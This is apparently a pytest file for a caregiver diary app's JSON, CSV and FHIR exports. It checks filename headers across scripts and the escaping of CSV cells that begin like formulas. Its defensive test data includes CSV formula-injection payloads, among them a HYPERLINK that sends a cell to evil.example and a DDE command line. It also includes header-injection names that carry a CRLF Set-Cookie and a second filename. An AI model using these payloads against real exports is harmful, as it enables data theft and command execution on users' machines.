"""Files in and out: exports named in every script we ship, spreadsheets that run no formula,
backups held to the forms' rules."""
import csv
import io
import urllib.parse
import urllib.request
from datetime import datetime

import pytest
from werkzeug.http import parse_options_header

from caregiver.extensions import db
from caregiver.models import CustomSymptom, Entry, Patient

from .conftest import PASSWORD, make_patient, make_user, sign_in
from .servers import Server, signed_in_opener

EXPORTS = ("export.json", "export.csv", "export.fhir.json")
# A name in each script of the languages we ship (i18n.LANGUAGES), Latin with accents, and names
# made to break out of the header: quotes, a semicolon with a second file name, a line break.
NAMES = {
    "hi": "रवि कुमार", "bn": "রবি কুমার", "ta": "தமிழ்செல்வி", "ar": "محمد علي",
    "es": "José Núñez", "fr": "Françoise Lefèvre", "pt_BR": "João Conceição",
    "quotes": 'Ravi "Ravi" O\'Neil', "semicolon": 'Ravi; filename="evil.exe"', "newline": "Ravi\r\nSet-Cookie: x=1",
}


def letters(text):
    return "".join(c for c in text if c.isalpha())


def check_attachment(header, name, suffix):
    """The header is plain ASCII, names one file, and that name keeps the diary's letters."""
    header.encode("ascii")  # what gunicorn refused to send
    assert "\r" not in header and "\n" not in header and header.count("filename=") == 1
    disposition, options = parse_options_header(header)  # decodes filename* (RFC 5987) when given
    assert disposition == "attachment"
    file_name = options["filename"]
    assert file_name.startswith("mnd-diary-") and file_name.endswith("." + suffix)
    assert letters(name).replace("filename", "") in letters(file_name).replace("filename", "")
    assert "/" not in file_name and '"' not in file_name and ";" not in file_name


@pytest.fixture
def named_diaries(app):
    owner = make_user(app)
    return {language: make_patient(app, owner, name=name) for language, name in NAMES.items()}


def test_every_export_is_named_in_the_diarys_own_script(app, client, named_diaries):
    sign_in(client)
    for language, patient_id in named_diaries.items():
        for export in EXPORTS:
            response = client.get(f"/patients/{patient_id}/{export}")
            assert response.status_code == 200, (language, export)
            check_attachment(response.headers["Content-Disposition"], NAMES[language], export.removeprefix("export."))
            assert response.headers["Cache-Control"] == "no-store"


def test_every_export_downloads_under_gunicorn_in_every_script(app, database_url, named_diaries):
    """The bug was a 500 from gunicorn, which refuses a header it cannot write as Latin-1."""
    server = Server(database_url)
    try:
        opener, _token = signed_in_opener(server, "carer@example.org", PASSWORD)
        for language, patient_id in named_diaries.items():
            for export in EXPORTS:
                with opener.open(server.url(f"/patients/{patient_id}/{export}")) as response:
                    assert response.status == 200, (language, export)
                    assert response.read()
                    check_attachment(response.headers["Content-Disposition"], NAMES[language],
                                     export.removeprefix("export."))
    finally:
        server.stop()


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
            "=1+1", "-cmd|' /C calc'!A0"]


def test_csv_cells_that_start_like_a_formula_are_text_and_numbers_stay_numbers(app, client):
    owner = make_user(app)
    patient_id = make_patient(app, owner)
    with app.app_context():
        own = CustomSymptom(patient_id=patient_id, name="=2+5", group="general")
        db.session.add(own)
        db.session.flush()
        db.session.add(Entry(patient_id=patient_id, kind="symptom", custom_symptom_id=own.id, severity=3, tz="UTC",
                             occurred_at=datetime(2026, 1, 4, 10)))
        for minute, formula in enumerate(FORMULAS):
            db.session.add(Entry(patient_id=patient_id, kind="question", note=formula, tz="UTC",
                                 occurred_at=datetime(2026, 1, 5, 10, minute)))
        db.session.add(Entry(patient_id=patient_id, kind="medication", name="=cmd", dose="-1 tablet", tz="UTC",
                             occurred_at=datetime(2026, 1, 6, 12)))
        db.session.add(Entry(patient_id=patient_id, kind="weight", value=-2.5, note="-2.5", tz="UTC",
                             occurred_at=datetime(2026, 1, 7, 9)))
        db.session.commit()
    sign_in(client)
    rows = list(csv.DictReader(io.StringIO(client.get(f"/patients/{patient_id}/export.csv").get_data(as_text=True))))
    notes = [row["note"] for row in rows if row["kind"] == "question"]
    assert notes == ["'" + formula for formula in FORMULAS]  # shown as written, run never
    assert next(row for row in rows if row["kind"] == "symptom")["symptom"] == "'=2+5"
    medicine = next(row for row in rows if row["kind"] == "medication")
    assert medicine["name"] == "'=cmd" and medicine["dose"] == "'-1 tablet"
    weight = next(row for row in rows if row["kind"] == "weight")
    assert weight["value"] == "-2.5" and float(weight["value"]) == -2.5 and weight["note"] == "-2.5"
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) and (
                not cell.startswith("-") or float(cell) < 0), (column, cell)
